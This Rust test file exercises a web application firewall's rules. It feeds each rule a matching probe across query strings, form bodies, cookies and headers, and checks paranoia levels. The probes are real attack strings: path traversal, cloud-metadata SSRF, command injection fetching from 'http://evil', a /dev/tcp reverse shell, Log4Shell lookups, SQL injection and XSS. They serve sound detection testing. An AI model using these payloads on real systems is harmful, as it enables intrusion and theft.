//! One probe or more for each rule.

use std::collections::BTreeSet;

use portcullis_seclang::rules::Entry;

use super::support::Exchange;
use super::{browser, engine, form, outcome, parsed, with_body};

/// The paranoia level, the rule, and a value that it is meant for, percent-encoded.
const VALUES: &[(u8, u64, &str)] = &[
    (1, 10112, "a%00b"),
    (1, 10113, "x%0d%0aSet-Cookie:%20a=b"),
    (1, 10114, "x%0d%0aGET%20/%20HTTP/1.1"),
    (1, 10300, "../../../../etc/x"),
    (1, 10300, "..%255c..%255cx"),
    (1, 10300, "/files/..;/a/.."),
    (1, 10301, "..%25c0%25af..%25c0%25afx"),
    (1, 10302, "/etc//passwd"),
    (1, 10302, "c:%5cwindows%5csystem32%5cdrivers"),
    (1, 10400, "gopher://10.0.0.1:25/x"),
    (1, 10400, "file:///x"),
    (1, 10400, "jar:http://a/b!/c"),
    (1, 10401, "http://169.254.169.254/latest/meta-data/"),
    (
        1,
        10401,
        "http://x@metadata.google.internal/computeMetadata/v1/",
    ),
    (1, 10401, "http://kubernetes.default.svc/api"),
    (1, 10402, "http://127.0.0.1:8080/admin"),
    (1, 10402, "http://[::1]/"),
    (1, 10402, "https://2130706433/"),
    (1, 10500, "a;id"),
    (1, 10500, "8.8.8.8%20%26%26%20cat%20/etc/x"),
    (1, 10500, "a|whoami"),
    (1, 10500, "$(curl%20http://evil/x)"),
    (1, 10500, "`sleep%205`"),
    (1, 10500, "x;/bin/bash"),
    (1, 10501, "bash%20-i%20%3E%26%20/dev/tcp/10.0.0.1/4444"),
    (1, 10501, "powershell%20-nop%20-enc%20AAAA"),
    (1, 10501, "cat$IFS/x"),
    (1, 10501, "iex(iwr%20http://evil/x.ps1)"),
    (1, 10501, "/etc/pass*"),
    (1, 10501, "/bin/c[a]t"),
    (1, 10502, "()%20{%20:;};%20x"),
    (1, 10503, "${jndi:ldap://a/b}"),
    (1, 10503, "${${lower:j}ndi:x}"),
    (1, 10503, "${env:AWS_SECRET}"),
    (1, 10504, "rO0ABXNyABdqYXZh"),
    (1, 10505, "%25{(%23a=1)}"),
    (1, 10505, "T(java.lang.Runtime).getRuntime().x"),
    (1, 10506, "{{7*7}}"),
    (1, 10506, "{{''.__class__.__mro__}}"),
    (1, 10506, "${7*7}"),
    (1, 10506, "<%25=%20system('x')%20%25>"),
    (1, 10508, "require('child_process').exec('x')"),
    (1, 10509, "<?php%20echo%201;"),
    (
        1,
        10509,
        "php://filter/convert.base64-encode/resource=index",
    ),
    (1, 10509, "eval($_POST[1])"),
    (1, 10510, "O:8:%22stdClass%22:1:{s:1:%22a%22;i:1;}"),
    (
        1,
        10512,
        "<!DOCTYPE%20a%20[<!ENTITY%20b%20SYSTEM%20%22x%22>]>",
    ),
    (1, 10600, "<script>alert(1)</script>"),
    (1, 10600, "<img%20src=x%20onerror=alert(1)>"),
    (1, 10601, "<svg/onload=x>"),
    (1, 10601, "%26lt;script%20src=//a>"),
    (1, 10602, "javascript:alert(document.domain)"),
    (1, 10602, "%22-alert(1)-%22"),
    (1, 10602, "self['alert'](1)"),
    (1, 10700, "1'%20or%20'1'='1"),
    (1, 10700, "1%20UNION%20SELECT%201,2,3--"),
    (1, 10701, "1/**/union/**/all/**/select/**/null,null"),
    (1, 10701, "select%20*%20from%20information_schema.tables"),
    (1, 10701, "1;%20drop%20table%20users"),
    (1, 10701, "1%20and%20sleep(5)"),
    (1, 10701, "x';%20exec%20xp_cmdshell%20'dir'"),
    (1, 10702, "a%22%20or%20%22b%22=%22b"),
    (2, 10120, "a%ffb"),
    (2, 10410, "http://203.0.113.9/x"),
    (2, 10411, "https://evil.example/shell.txt?"),
    (2, 10520, "a;%20curl"),
    (2, 10610, "<b>a</b>"),
    (2, 10711, "select%20name%20from%20users"),
    (2, 10712, "*)(uid=*))(|(uid=*"),
    (3, 10122, "%2541"),
    (3, 10521, "$(a)"),
    (3, 10611, "a%20<%20b"),
    (3, 10713, "a'%20--"),
    (4, 10123, "%c3%a9"),
    (4, 10714, "it's"),
];

fn at_level(level: u8) -> portcullis_seclang::Engine {
    engine(&format!(
        "SecAction \"id:1,phase:1,pass,nolog,setvar:tx.blocking_paranoia_level={level}\""
    ))
}

#[test]
fn values_hit_their_rule_in_every_place() {
    let engines = [1, 2, 3, 4].map(at_level);
    for (level, id, value) in VALUES {
        let target = format!("/a?q={value}");
        let body = format!("a=1&text={value}");
        let cookie = format!("a=1; c={value}");
        let mut with_cookie = browser("GET", "/");
        with_cookie.headers.push(("Cookie", &cookie));
        let mut exchanges = vec![browser("GET", &target), form("/a", &body), with_cookie];
        // Those that are about the query only, or about arguments only.
        match id {
            10113 | 10301 => exchanges.truncate(1),
            10114 | 10120 | 10122 | 10123 | 10502 => exchanges.truncate(2),
            _ => {}
        }
        for exchange in exchanges {
            // Cookies end at a semicolon.
            if exchange.method == "GET" && exchange.target == "/" && value.contains(';') {
                continue;
            }
            let (_, ids) = outcome(&engines[usize::from(*level) - 1], &exchange);
            assert!(
                ids.contains(id),
                "{id} {value} {:?}: {ids:?}",
                exchange.method
            );
            let below = engines.get(usize::from(*level).wrapping_sub(2));
            if let Some(below) = below {
                let (_, ids) = outcome(below, &exchange);
                assert!(!ids.contains(id), "{id} below its paranoia level");
            }
        }
    }
}

fn with_header<'a>(name: &'a str, value: &'a str) -> Exchange<'a> {
    let mut exchange = browser("GET", "/");
    exchange.headers.retain(|(known, _)| *known != name);
    exchange.headers.push((name, value));
    exchange
}

fn without_header<'a>(name: &str) -> Exchange<'a> {
    let mut exchange = browser("GET", "/");
    exchange.headers.retain(|(known, _)| *known != name);
    exchange
}

/// What the table of values does not reach.
fn others<'a>() -> Vec<(u8, u64, Exchange<'a>)> {
    let mut both = with_body("/", "text/plain", "a");
    both.headers
        .extend([("Content-Length", "1"), ("Transfer-Encoding", "chunked")]);
    let upload = "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\nContent-Type: image/png\r\n\r\nx\r\n--b--\r\n";
    let response = |body| {
        let mut exchange = browser("GET", "/");
        exchange.response_body = body;
        exchange
    };
    vec![
        (1, 10100, browser("TRACE", "/")),
        (1, 10102, without_header("Host")),
        (1, 10103, with_header("Content-Length", "1, 1")),
        (1, 10104, both),
        (1, 10105, with_header("Content-Length", "5")),
        (1, 10106, browser("GET", "/?a=100%")),
        (1, 10107, with_header("X-A", "a\u{1}b")),
        (1, 10108, with_body("/", "text/plain; charset=utf-7", "a")),
        (1, 10109, with_header("Content-Encoding", "gzip")),
        (1, 10110, with_header("Proxy", "http://evil")),
        (
            1,
            10111,
            with_header(
                "Range",
                "bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13,14-15,16-17,18-19,20-21,22-23,24-25",
            ),
        ),
        (2, 10121, with_header("X-HTTP-Method-Override", "DELETE")),
        (1, 10200, with_header("User-Agent", "sqlmap/1.8.2#stable")),
        (1, 10201, without_header("User-Agent")),
        (1, 10303, browser("GET", "/.git/config")),
        (1, 10303, browser("GET", "/app/.env.production")),
        (1, 10303, browser("GET", "/wp-config.php.bak")),
        (2, 10310, browser("GET", "/db/dump.sql.gz")),
        (1, 10300, browser("GET", "/static/..%2f..%2fetc/x")),
        (1, 10300, browser("GET", "/a/../../x")),
        (1, 10507, browser("GET", "/?__proto__[admin]=1")),
        (1, 10503, with_header("User-Agent", "${jndi:dns://a}")),
        (1, 10502, with_header("X-A", "() { :; }; echo")),
        (
            1,
            10511,
            with_body("/up", "multipart/form-data; boundary=b", upload),
        ),
        (
            1,
            10700,
            with_body(
                "/",
                "application/json",
                r#"{"user":{"name":"' or 1=1 -- "}}"#,
            ),
        ),
        (1, 10703, browser("GET", "/?user[$ne]=x")),
        (
            1,
            10703,
            with_body("/", "application/json", r#"{"password":{"$gt":""}}"#),
        ),
        (2, 10710, with_header("Referer", "1' or '1'='1")),
        (1, 10900, response("-----BEGIN RSA PRIVATE KEY-----\nMIIE")),
        (
            1,
            10902,
            response("You have an error in your SQL syntax; check"),
        ),
        (
            1,
            10903,
            response("<b>Warning</b>:  x in /a.php on line <b>3</b>"),
        ),
        (1, 10904, response("root:x:0:0:root:/root:/bin/bash")),
        (2, 10910, response("Traceback (most recent call last):\n")),
        (2, 10911, response("key AKIAIOSFODNN7EXAMPLE.")),
        (2, 10912, response("<title>Index of /a</title>")),
    ]
}

#[test]
fn other_probes_hit_their_rule() {
    let engines = [1, 2].map(at_level);
    for (level, id, exchange) in others() {
        let (_, ids) = outcome(&engines[usize::from(level) - 1], &exchange);
        assert!(ids.contains(&id), "{id}: {ids:?}");
    }
}

#[test]
fn every_rule_has_its_probe() {
    let mut tried: BTreeSet<u64> = VALUES.iter().map(|(_, id, _)| *id).collect();
    tried.extend(others().iter().map(|(_, id, _)| *id));
    // Told by hand: the engine's own line of the request is always HTTP/1.1 here.
    tried.insert(10101);
    let parsed = parsed("");
    let untried: Vec<u64> = parsed
        .rules
        .entries
        .iter()
        .filter_map(|entry| match entry {
            Entry::Rule(rule) if (10_100..19_000).contains(&rule.id) && rule.log => Some(rule.id),
            _ => None,
        })
        .filter(|id| !tried.contains(id))
        .collect();
    assert!(untried.is_empty(), "{untried:?}");
}

#[test]
fn critical_rules_deny_alone() {
    let engine = engine("");
    for target in [
        "/?q=../../../etc/passwd",
        "/?q=1'+or+'1'='1",
        "/?q=<script>alert(1)</script>",
        "/.git/config",
    ] {
        let (verdict, ids) = outcome(&engine, &browser("GET", target));
        let verdict = verdict.unwrap_or_else(|| panic!("{target} passed: {ids:?}"));
        assert_eq!((verdict.status, verdict.rule), (403, 19_030), "{target}");
    }
}
